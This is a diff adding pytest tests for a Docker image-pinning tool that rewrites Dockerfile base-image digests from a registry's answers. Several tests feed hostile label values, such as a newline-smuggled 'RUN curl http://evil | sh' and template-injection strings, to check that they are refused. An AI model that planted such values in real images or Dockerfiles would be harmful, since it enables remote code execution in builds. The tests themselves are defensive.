@@ -1,0 +1,144 @@
+"""pin's planning and reporting, with the registry's answer handed in directly (the e2e tests ask a real one)."""
+
+from pathlib import Path
+
+import pytest
+
+from wheelbase.engine import RemoteImage
+from wheelbase.errors import CompatibilityError, StalePinError, UsageError
+from wheelbase.image_ref import ImageRef
+from wheelbase.pin import pin, plan
+
+OLD = "sha256:" + "1" * 64
+NEW = "sha256:" + "2" * 64
+OTHER = "sha256:" + "3" * 64
+LABELS = {"dev.wheelbase.flavor": "debian", "dev.wheelbase.python.version": "3.13",
+          "dev.wheelbase.python.image": "python:3.13-slim-trixie"}
+DOCKERFILE = f"""\
+ARG BASE_IMAGE=localhost:5000/w/wheelhouse:py3.13-debian@{OLD}
+ARG RUNTIME_IMAGE=localhost:5000/w/wheelhouse:py3.13-debian-runtime@{OLD}
+ARG PYTHON_IMAGE=localhost/python:3.13-slim-trixie
+FROM ${{BASE_IMAGE}} AS wheelhouse
+"""
+
+
+class Registry:
+    """A registry's answers: every tag at `digest` with `labels`, per platform; records what was asked."""
+
+    def __init__(self, digest: str = NEW, labels: dict[str, str] = LABELS, *, runtime_labels: dict[str, str] | None = None,
+                 by_tag: dict[str, str] | None = None, arm64_labels: dict[str, str] | None = None) -> None:
+        self.digest, self.labels, self.runtime_labels, self.by_tag = digest, labels, runtime_labels, by_tag or {}
+        self.arm64_labels = arm64_labels
+        self.asked: list[str] = []
+
+    def __call__(self, ref: ImageRef) -> RemoteImage:
+        self.asked.append(str(ref))
+        is_runtime = ref.tag is not None and ref.tag.endswith("-runtime")
+        labels = self.runtime_labels if is_runtime and self.runtime_labels else self.labels
+        platforms = {"linux/amd64": labels, "linux/arm64": self.arm64_labels or labels}
+        return RemoteImage(ref, self.by_tag.get(ref.tag or "", self.digest), platforms)
+
+
+def service(folder: Path, text: str = DOCKERFILE) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "Dockerfile").write_text(text)
+    return folder
+
+
+def test_moves_the_three_pins_to_the_registry_answer(tmp_path: Path) -> None:
+    registry = Registry()
+    (change,) = plan([service(tmp_path)], None, registry)
+    assert registry.asked == ["localhost:5000/w/wheelhouse:py3.13-debian", "localhost:5000/w/wheelhouse:py3.13-debian-runtime"]
+    assert [name for name, _, _ in change.edits] == ["BASE_IMAGE", "RUNTIME_IMAGE", "PYTHON_IMAGE"]
+    assert change.text == DOCKERFILE.replace(OLD, NEW).replace("localhost/python", "python")
+    assert (tmp_path / "Dockerfile").read_text() == DOCKERFILE
+
+
+def test_a_current_pin_plans_nothing(tmp_path: Path) -> None:
+    assert plan([service(tmp_path, DOCKERFILE.replace("localhost/python", "python"))], None, Registry(OLD)) == []
+
+
+def test_base_option_switches_the_tag(tmp_path: Path) -> None:
+    registry = Registry()
+    (change,) = plan([service(tmp_path)], "localhost:5000/w/wheelhouse:2026.11.0-py3.13-debian", registry)
+    assert registry.asked[0] == "localhost:5000/w/wheelhouse:2026.11.0-py3.13-debian"
+    assert f"wheelhouse:2026.11.0-py3.13-debian@{NEW}" in change.text
+
+
+@pytest.mark.parametrize(("base", "message"), [
+    (f"localhost:5000/w/wheelhouse:py3.13-debian@{NEW}", "not a digest"),
+    ("localhost:5000/w/wheelhouse", "has no tag"),
+])
+def test_base_must_be_a_tag(tmp_path: Path, base: str, message: str) -> None:
+    with pytest.raises(UsageError, match=message):
+        plan([service(tmp_path)], base, Registry())
+
+
+def test_each_file_is_checked_against_its_own_tag(tmp_path: Path) -> None:
+    other = DOCKERFILE.replace("py3.13-debian", "py3.12-debian")
+    registry = Registry(by_tag={"py3.13-debian": OLD, "py3.13-debian-runtime": OLD, "py3.12-debian": OTHER,
+                                "py3.12-debian-runtime": OTHER})
+    changes = plan([service(tmp_path / "a", DOCKERFILE.replace("localhost/python", "python")),
+                    service(tmp_path / "b", other.replace("localhost/python", "python"))], None, registry)
+    assert [c.file.path for c in changes] == [tmp_path / "b" / "Dockerfile"]
+    assert f"py3.12-debian@{OTHER}" in changes[0].text and "py3.13" not in changes[0].text
+
+
+@pytest.mark.parametrize("hostile", [
+    "{{ 7*7 }}", "python:3.13\nRUN curl http://evil | sh", "python:3.13 ", "python:{% raw %}x",
+])
+def test_a_hostile_python_image_label_is_refused_before_anything_is_written(tmp_path: Path, hostile: str) -> None:
+    with pytest.raises(CompatibilityError, match="nothing was written"):
+        pin([service(tmp_path)], None, inspect=Registry(labels={**LABELS, "dev.wheelbase.python.image": hostile}),
+            out=lambda line: None)
+    assert (tmp_path / "Dockerfile").read_text() == DOCKERFILE
+
+
+@pytest.mark.parametrize(("label", "value"), [("dev.wheelbase.python.version", "3.13\nRUN x"), ("dev.wheelbase.flavor", "{{x}}")])
+def test_other_hostile_labels_are_refused(tmp_path: Path, label: str, value: str) -> None:
+    with pytest.raises(CompatibilityError, match="malformed"):
+        plan([service(tmp_path)], None, Registry(labels={**LABELS, label: value}))
+
+
+def test_platforms_that_disagree_are_refused(tmp_path: Path) -> None:
+    registry = Registry(arm64_labels={**LABELS, "dev.wheelbase.python.image": "python:3.12-slim-trixie"})
+    with pytest.raises(CompatibilityError, match=r"linux/arm64: .*python:3.12-slim-trixie.*different|different wheelhouse labels"):
+        plan([service(tmp_path)], None, registry)
+
+
+def test_an_image_without_wheelhouse_labels_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(CompatibilityError, match="is not a wheelhouse"):
+        plan([service(tmp_path)], None, Registry(labels={"org.opencontainers.image.title": "something else"}))
+
+
+def test_a_runtime_from_another_release_names_what_differs_on_each_side(tmp_path: Path) -> None:
+    registry = Registry(runtime_labels={**LABELS, "dev.wheelbase.python.image": "python:3.13-slim-bookworm"})
+    with pytest.raises(CompatibilityError) as failed:
+        plan([service(tmp_path)], None, registry)
+    assert "(Python image python:3.13-slim-bookworm) was not built with" in str(failed.value)
+    assert "(Python image python:3.13-slim-trixie)" in str(failed.value)
+
+
+def test_a_file_without_runtime_pin_needs_no_runtime(tmp_path: Path) -> None:
+    text = "\n".join(line for line in DOCKERFILE.splitlines() if "RUNTIME_IMAGE" not in line) + "\n"
+    registry = Registry()
+    plan([service(tmp_path, text)], None, registry)
+    assert registry.asked == ["localhost:5000/w/wheelhouse:py3.13-debian"]
+
+
+def test_check_reports_stale_and_writes_nothing(tmp_path: Path) -> None:
+    lines: list[str] = []
+    with pytest.raises(StalePinError):
+        pin([service(tmp_path)], None, check=True, inspect=Registry(), out=lines.append)
+    assert lines and lines[0].startswith("stale: ")
+    assert (tmp_path / "Dockerfile").read_text() == DOCKERFILE
+
+
+def test_pinned_lines_are_printed_only_after_every_file_is_written(tmp_path: Path) -> None:
+    writable, read_only = service(tmp_path / "a"), service(tmp_path / "b")
+    (read_only / "Dockerfile").chmod(0o444)
+    lines: list[str] = []
+    with pytest.raises(Exception, match="read-only"):
+        pin([writable, read_only], None, inspect=Registry(), out=lines.append)
+    assert lines == []
+    assert (writable / "Dockerfile").read_text() == DOCKERFILE
